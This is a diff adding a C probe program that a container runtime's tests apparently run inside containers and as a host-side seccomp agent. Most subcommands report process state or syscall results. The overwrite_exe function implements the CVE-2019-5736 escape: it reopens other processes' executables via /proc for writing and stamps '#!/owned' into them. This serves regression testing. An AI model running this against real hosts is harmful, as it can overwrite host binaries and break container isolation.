@@ -1,0 +1,269 @@
+/*
+ * The program that tests run inside containers to see what busybox cannot show, and on the host as a seccomp agent.
+ * Linked statically so that it runs in any root file system.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/seccomp.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/personality.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static int result(long r)
+{
+	if (r < 0)
+		printf("errno %d\n", errno);
+	else
+		printf("ok\n");
+	return 0;
+}
+
+/* Every open descriptor with its target, one a line; the one used for looking is left out. */
+static int fds(void)
+{
+	DIR *d = opendir("/proc/self/fd");
+	struct dirent *e;
+	char target[4096];
+
+	if (!d)
+		return perror("/proc/self/fd"), 1;
+	while ((e = readdir(d))) {
+		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
+			continue;
+		ssize_t n = readlinkat(dirfd(d), e->d_name, target, sizeof target - 1);
+		target[n < 0 ? 0 : n] = 0;
+		printf("%s %s\n", e->d_name, target);
+	}
+	return 0;
+}
+
+static int keyring(void)
+{
+	char text[512];
+	/* KEYCTL_DESCRIBE of KEY_SPEC_SESSION_KEYRING */
+	long n = syscall(SYS_keyctl, 6, -3, text, sizeof text);
+	if (n < 0)
+		return result(n);
+	long id = syscall(SYS_keyctl, 0, -3, 0);
+	printf("%ld %s\n", id, text);
+	return 0;
+}
+
+static int sched(void)
+{
+	struct {
+		uint32_t size, policy;
+		uint64_t flags;
+		int32_t nice;
+		uint32_t priority;
+		uint64_t runtime, deadline, period;
+	} a = { 0 };
+	if (syscall(SYS_sched_getattr, 0, &a, sizeof a, 0) < 0)
+		return result(-1);
+	printf("policy=%u nice=%d priority=%u flags=%llu\n", a.policy, a.nice, a.priority, (unsigned long long)a.flags);
+	return 0;
+}
+
+static int call(const char *name)
+{
+	char buf[4096];
+	if (!strcmp(name, "getcwd"))
+		return result(syscall(SYS_getcwd, buf, sizeof buf));
+	if (!strcmp(name, "mkdir"))
+		return result(mkdir("/tmp/probe-made", 0777));
+	if (!strcmp(name, "sync"))
+		return result((sync(), 0));
+	if (!strcmp(name, "sysinfo"))
+		return result(syscall(SYS_sysinfo, buf));
+	if (!strcmp(name, "getpriority"))
+		return result(syscall(SYS_getpriority, PRIO_PROCESS, 0));
+	if (!strcmp(name, "setpriority"))
+		return result(syscall(SYS_setpriority, PRIO_PROCESS, 0, 5));
+	if (!strcmp(name, "personality-query"))
+		return result(personality(0xffffffff));
+	if (!strcmp(name, "personality-set"))
+		return result(personality(0x0008));
+	if (!strcmp(name, "socket"))
+		return result(socket(AF_INET, SOCK_DGRAM, 0));
+	if (!strcmp(name, "unshare-user"))
+		return result(unshare(CLONE_NEWUSER));
+	if (!strcmp(name, "mknod"))
+		return result(mknod("/tmp/probe-node", S_IFCHR | 0600, 0x0103));
+	if (!strcmp(name, "chroot"))
+		return result(chroot("/"));
+	if (!strcmp(name, "setns"))
+		return result(syscall(SYS_setns, -1, 0));
+	fprintf(stderr, "probe: no call named %s\n", name);
+	return 2;
+}
+
+/* Opens a file in the given ways: "probe open PATH r|w|rw|a". */
+static int open_as(const char *path, const char *how)
+{
+	int flags = !strcmp(how, "r") ? O_RDONLY : !strcmp(how, "w") ? O_WRONLY : !strcmp(how, "a") ? O_WRONLY | O_APPEND : O_RDWR;
+	return result(open(path, flags | O_NOCTTY | O_CLOEXEC));
+}
+
+/* "probe mmap MIB": touches that much memory. */
+static int eat(size_t mib)
+{
+	char *p = malloc(mib << 20);
+	if (!p)
+		return 1;
+	for (size_t i = 0; i < mib << 20; i += 4096)
+		((volatile char *)p)[i] = 1;
+	printf("ate %zu\n", mib);
+	return 0;
+}
+
+/*
+ * The attack of CVE-2019-5736: take hold of the executable of any process that enters this container and write to it
+ * once it is no longer running. Prints what it could write to.
+ */
+static int overwrite_exe(int seconds)
+{
+	struct timespec until, now;
+	char path[64], target[4096], self[4096];
+	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
+
+	self[n < 0 ? 0 : n] = 0;
+	clock_gettime(CLOCK_MONOTONIC, &until);
+	until.tv_sec += seconds;
+	printf("watching\n");
+	fflush(stdout);
+	do {
+		for (int pid = 1; pid < 400; pid++) {
+			if (pid == getpid())
+				continue;
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			int fd = open(path, O_RDONLY | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			n = readlink(path, target, sizeof target - 1);
+			target[n < 0 ? 0 : n] = 0;
+			/* The container's own programs may be written to: they are its own. */
+			if (strstr(target, "busybox") || strstr(target, "probe")) {
+				close(fd);
+				continue;
+			}
+			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+			for (int i = 0; i < 2000; i++) {
+				int w = open(path, O_WRONLY | O_CLOEXEC);
+				if (w >= 0) {
+					printf("opened %s for writing\n", target);
+					fflush(stdout);
+					if (write(w, "#!/owned\n", 9) == 9)
+						printf("WROTE %s\n", target);
+					fflush(stdout);
+					close(w);
+					break;
+				}
+			}
+			close(fd);
+		}
+		clock_gettime(CLOCK_MONOTONIC, &now);
+	} while (now.tv_sec < until.tv_sec);
+	printf("done\n");
+	return 0;
+}
+
+/* Receives one seccomp listener on the socket, prints its state, and answers every call with errno 91 until closed. */
+static int notify_agent(const char *where)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), fd = -1;
+	char state[16384], control[CMSG_SPACE(sizeof(int))];
+
+	strncpy(a.sun_path, where, sizeof a.sun_path - 1);
+	if (bind(s, (void *)&a, sizeof a) || listen(s, 1))
+		return perror(where), 1;
+	printf("listening\n");
+	fflush(stdout);
+	int c = accept4(s, 0, 0, SOCK_CLOEXEC);
+	struct iovec v = { state, sizeof state - 1 };
+	struct msghdr m = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
+	ssize_t n = recvmsg(c, &m, MSG_CMSG_CLOEXEC);
+	struct cmsghdr *h = n < 0 ? 0 : CMSG_FIRSTHDR(&m);
+	if (!h || h->cmsg_type != SCM_RIGHTS)
+		return fprintf(stderr, "probe: no descriptor came\n"), 1;
+	memcpy(&fd, CMSG_DATA(h), sizeof fd);
+	state[n] = 0;
+	printf("state %s\n", state);
+	fflush(stdout);
+	close(c);
+	for (;;) {
+		struct seccomp_notif q = { 0 };
+		struct seccomp_notif_resp r = { 0 };
+		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &q) < 0) {
+			if (errno == EINTR)
+				continue;
+			break;
+		}
+		printf("call %d\n", q.data.nr);
+		fflush(stdout);
+		r.id = q.id;
+		r.error = -91;
+		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &r) < 0 && errno != ENOENT)
+			break;
+	}
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *what = argc > 1 ? argv[1] : "";
+
+	if (!strcmp(what, "true"))
+		return 0;
+	if (!strcmp(what, "fds"))
+		return fds();
+	if (!strcmp(what, "keyring"))
+		return keyring();
+	if (!strcmp(what, "sched"))
+		return sched();
+	if (!strcmp(what, "personality"))
+		return printf("%#x\n", personality(0xffffffff)), 0;
+	if (!strcmp(what, "ioprio"))
+		return printf("%#lx\n", syscall(SYS_ioprio_get, 1, 0)), 0;
+	if (!strcmp(what, "affinity")) {
+		cpu_set_t set;
+		CPU_ZERO(&set);
+		sched_getaffinity(0, sizeof set, &set);
+		for (int i = 0; i < 64; i++)
+			if (CPU_ISSET(i, &set))
+				printf("%d ", i);
+		return puts(""), 0;
+	}
+	if (!strcmp(what, "call") && argc > 2)
+		return call(argv[2]);
+	if (!strcmp(what, "open") && argc > 3)
+		return open_as(argv[2], argv[3]);
+	if (!strcmp(what, "eat") && argc > 2)
+		return eat(strtoul(argv[2], 0, 10));
+	if (!strcmp(what, "boottime")) {
+		struct timespec t;
+		clock_gettime(CLOCK_BOOTTIME, &t);
+		return printf("%ld\n", (long)t.tv_sec), 0;
+	}
+	if (!strcmp(what, "overwrite-exe") && argc > 2)
+		return overwrite_exe(atoi(argv[2]));
+	if (!strcmp(what, "notify-agent") && argc > 2)
+		return notify_agent(argv[2]);
+	fprintf(stderr, "probe: what is \"%s\"?\n", what);
+	return 2;
+}
